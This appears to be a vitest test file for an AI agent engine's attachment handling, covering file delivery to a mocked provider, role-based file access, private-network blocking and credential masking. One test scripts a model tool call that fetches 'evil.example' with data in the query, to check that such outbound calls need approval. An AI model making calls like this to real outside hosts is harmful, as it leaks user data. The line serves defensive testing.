// Attachments of real runs: what the provider receives, in the first turn and after the run was put down and taken up.
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { attachmentLimits } from '../../src/engine/context/attachments.ts'
import { json, roleOf, verdict } from '../support/agents.ts'
import { type Bench, ofType, outline, startBench } from '../support/engine.ts'
import { dataUrl, png } from '../support/files.ts'
import { type PretendWeb, page, startPretendWeb } from '../support/pretend-web.ts'
import { type MockProvider, startMockProvider } from '../support/providers/mock-provider.ts'
import { callTools, type NeutralRequest, type Reply, say } from '../support/providers/script.ts'

let web: PretendWeb
let provider: MockProvider
let bench: Bench
let replies: Reply[] = []

beforeAll(async () => {
  web = await startPretendWeb()
  provider = await startMockProvider('anthropic', (request) => {
    if (roleOf(request) === 'judge') return verdict('stop')
    return replies.shift() ?? say('Done.')
  })
  const environment = { ANTHROPIC_BASE_URL: provider.baseUrl, ANTHROPIC_API_KEY: 'sk-test' }
  const options = { environment, tools: [web.tool], fetchFile: web.fetchFile }
  bench = await startBench({ RUNWRIGHT_MODEL: 'anthropic/claude-sonnet-4-5' }, options)
})
afterEach(() => web.forget())
afterAll(async () => {
  await bench.stop()
  await provider.close()
  await web.stop()
  expect(provider.refusals).toEqual([])
})

const run = (attachment_refs: readonly string[], more: object = {}) => ({
  input: { question: 'What is on it?' },
  metadata: {},
  routing_hint: 'skip_planning',
  attachment_refs,
  ...more,
})

const asked = (role: string): NeutralRequest[] => provider.requests.filter((request) => roleOf(request) === role)
const filesOf = (request: NeutralRequest | undefined) => (request?.messages ?? []).flatMap(({ files = [] }) => files)
/** What the prompt says about attachments. */
const partOf = (request: NeutralRequest | undefined) => textOf(request).split('\n\n')[0]
const textOf = (request: NeutralRequest | undefined) => (request?.messages ?? []).map(({ text }) => text).join('\n')

test('a fetched image stays the same over turns and restarts, and calls that send data out need approval', async () => {
  const large = Buffer.concat([png, Buffer.alloc(attachmentLimits.bytesPerFile - png.length, 7)])
  web.pages.set('/cat.png', page('image/png', large))
  replies = [callTools([{ name: 'http_fetch', args: { url: 'https://evil.example/?cat' } }])]
  const before = asked('worker').length
  const id = await bench.create(run(['https://shop.example/cat.png', 's3://bucket/b.pdf']))
  const seq = await bench.waits(id)
  expect(web.requests.map(({ line }) => line)).toEqual(['GET shop.example/cat.png'])
  web.pages.set('/cat.png', page('image/png', png))
  await bench.signal(id, 'approve', { await_seq: seq })
  const events = await bench.ended(id)
  expect(ofType(events, 'run.awaiting_input')).toMatchObject([{ reason_code: 'approval_required' }])
  const [first, second] = asked('worker').slice(before)
  expect(filesOf(first)).toEqual([{ mediaType: 'image/png', data: large.toString('base64') }])
  expect(filesOf(second)).toEqual(filesOf(first))
  expect(partOf(second)).toBe(partOf(first))
  expect(partOf(first)).toContain(`is a file of this message (image/png, ${large.length} bytes).`)
  expect(web.requests.map(({ line }) => line)).toEqual(['GET shop.example/cat.png', 'GET evil.example/?cat'])
})

test('the planner and the worker get files, the judge does not', async () => {
  replies = [json({ steps: [{ id: 'look', instruction: 'Look at it.' }] })]
  const before = { planner: asked('planner').length, worker: asked('worker').length, judge: asked('judge').length }
  const { events } = await bench.play(run([dataUrl('image/png', png)], { routing_hint: 'require_planning' }))
  expect(outline(events).at(-1)).toBe('succeeded')
  const data = png.toString('base64')
  expect(filesOf(asked('planner')[before.planner])).toEqual([{ mediaType: 'image/png', data }])
  expect(filesOf(asked('worker')[before.worker])).toEqual([{ mediaType: 'image/png', data }])
  expect(filesOf(asked('judge')[before.judge])).toEqual([])
})

test('a run goes on without a file that cannot be read', async () => {
  web.pages.set('/gone.png', (_, response) => response.writeHead(404).end())
  const before = asked('worker').length
  const { events } = await bench.play(run(['https://shop.example/gone.png', 'https://10.0.0.1/x.png', 'data:,a%20b']))
  expect(outline(events).at(-1)).toBe('succeeded')
  const text = textOf(asked('worker')[before])
  expect(text).toContain('https://shop.example/gone.png, could not be read: "shop.example" answered with status 404.')
  expect(text).toContain('https://10.0.0.1/x.png, could not be read: "10.0.0.1" is not on the public Internet.')
  expect(text).toContain('<data name="attachment 3">\na b\n</data>')
})

test('a tagged value in a reference reaches neither the model nor the network', async () => {
  const before = asked('worker').length
  const body = run(['https://shop.example/?sig=hunter2-hunter2', `data:,is%20hunter2-hunter2`], {
    input: { question: 'What is on it?', token: 'hunter2-hunter2' },
    sensitivity_tags: [{ path: '$.input.token', redaction: 'mask', classification: 'credential' }],
  })
  const { events } = await bench.play(body)
  expect(outline(events).at(-1)).toBe('succeeded')
  const request = asked('worker')[before]
  expect(textOf(request)).toContain('https://shop.example/?sig=***, could not be read')
  expect(JSON.stringify(request?.body)).not.toContain('hunter2')
  expect(web.lookedUp).toEqual([])
})
